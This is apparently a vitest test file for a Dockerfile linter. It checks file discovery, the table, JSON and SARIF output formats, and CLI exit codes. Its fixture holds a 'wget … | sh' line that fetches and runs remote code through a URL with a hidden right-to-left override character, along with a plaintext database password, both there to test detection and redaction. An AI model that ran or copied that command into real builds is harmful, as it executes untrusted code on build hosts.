import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lint } from '../../dockerfile/lint.js';
import { rules } from '../../dockerfile/rules/index.js';
import { UsageError } from '../failure.js';
import { lintFilesOf } from './files.js';
import { json } from './output/json.js';
import { sarif } from './output/sarif.js';
import { table } from './output/table.js';

const text =
  'FROM alpine:3\nRUN true\n\nRUN wget -qO- http://203.0.113.9/\u202ex | sh\nENV A=1\\\n  DB_PASSWORD=hunter2\nRUN )\n';
const linted = (path = 'a/Dockerfile') => [{ path, text, ...lint(text) }];

describe('the files that are looked at', () => {
  let root = '';
  beforeAll(() => {
    root = mkdtempSync(join(tmpdir(), 'keelwatch-lint-'));
    mkdirSync(join(root, 'b/node_modules'), { recursive: true });
    mkdirSync(join(root, 'empty'));
    for (const name of [
      'Dockerfile',
      'b/web.Dockerfile',
      'b/Containerfile.dev',
      'b/Dockerfile.md',
      'b/node_modules/Dockerfile',
      'b/x.txt',
    ])
      writeFileSync(join(root, name), `FROM ${name}`);
    symlinkSync('/', join(root, 'b/loop'));
  });
  afterAll(() => rmSync(root, { recursive: true }));

  const names = (...paths: string[]): string[] =>
    [...lintFilesOf(paths.map((path) => join(root, path)))].map(({ path }) =>
      path.slice(root.length + 1),
    );

  it('are found in directories by their names', () => {
    expect(names('.')).toEqual(['Dockerfile', 'b/Containerfile.dev', 'b/web.Dockerfile']);
  });
  it('are taken whatever their name when they are named', () => {
    expect(names('b/x.txt')).toEqual(['b/x.txt']);
  });
  it.each(['none', 'empty'])('are missed with one line: %s', (path) => {
    expect(() => names(path)).toThrow(UsageError);
  });
  it('are files, not devices', () => {
    expect(() => [...lintFilesOf(['/dev/null'])]).toThrow(UsageError);
  });
});

describe('what is written', () => {
  it('as a table shows the line, and no secret and no control character of it', () => {
    const shown = table(linted(), rules);
    expect(shown).toContain('4 │ RUN wget -qO- http://203.0.113.9/\\u{202e}x | sh');
    expect(shown).toContain('not analysed: Shell text that could not be parsed');
    expect(shown).not.toMatch(/hunter2|\u202e/);
    expect(shown).toMatch(/1 file: 2 High, 1 Low; 1 part not analysed\n$/);
  });

  it('as JSON is ASCII, with what is unknown beside what was found', () => {
    const written = json(linted(), rules);
    expect(written).toMatch(/^[\n -~]*$/);
    const [file] = JSON.parse(written).files;
    expect(file).toMatchObject({ Path: 'a/Dockerfile', Unknown: [{ Line: 7 }], Ignored: 0 });
    expect(file.Findings).toContainEqual(
      expect.objectContaining({ Rule: 'download-executed', Severity: 'High', Line: 4, EndLine: 4 }),
    );
  });

  it('as SARIF has places, help for each rule, and notifications of what was not analysed', () => {
    const [run] = JSON.parse(sarif(linted(), rules)).runs;
    expect(run.tool.driver.rules).toHaveLength(rules.length);
    for (const rule of run.tool.driver.rules) expect(rule.help.markdown).toContain('**Instead:**');
    const result = run.results.find(
      ({ ruleId }: { ruleId: string }) => ruleId === 'download-executed',
    );
    expect(result.level).toBe('error');
    expect(run.tool.driver.rules[result.ruleIndex].id).toBe('download-executed');
    expect(result.locations[0].physicalLocation).toMatchObject({
      artifactLocation: { uri: 'a/Dockerfile' },
      region: { startLine: 4, startColumn: 39 },
    });
    const [notification] = run.invocations[0].toolExecutionNotifications;
    expect(notification.locations[0].physicalLocation.region.startLine).toBe(7);
  });

  it('as SARIF knows a finding again when lines are added above it, and tells two on like lines apart', () => {
    const prints = (content: string): string[] =>
      JSON.parse(
        sarif([{ path: 'f', text: content, ...lint(content) }], rules),
      ).runs[0].results.map(
        (result: { partialFingerprints: Record<string, string> }) =>
          result.partialFingerprints['keelwatch/v1'],
      );
    const line = 'RUN curl -kO https://example.org/x\n';
    expect(prints(`FROM a:1\n\n\n${line}${line}`)).toEqual(prints(`FROM a:1\n${line}${line}`));
    expect(new Set(prints(`FROM a:1\n${line}${line}`)).size).toBe(2);
  });
});

describe('the command', () => {
  const run = (...args: string[]) =>
    spawnSync('npx', ['tsx', 'src/cli/main.ts', 'lint', '-', ...args], {
      input: text,
      encoding: 'utf8',
    });

  it('ends with 1 for a finding as severe as asked for, and with 2 for a rule that is not there', () => {
    expect(run('--fail-on', 'high', '--output', 'json')).toMatchObject({ status: 1 });
    const wrong = run('--rule', 'no-such-rule');
    expect(wrong).toMatchObject({ status: 2, stdout: '' });
    expect(wrong.stderr).toContain('no-such-rule');
  }, 60_000);
});
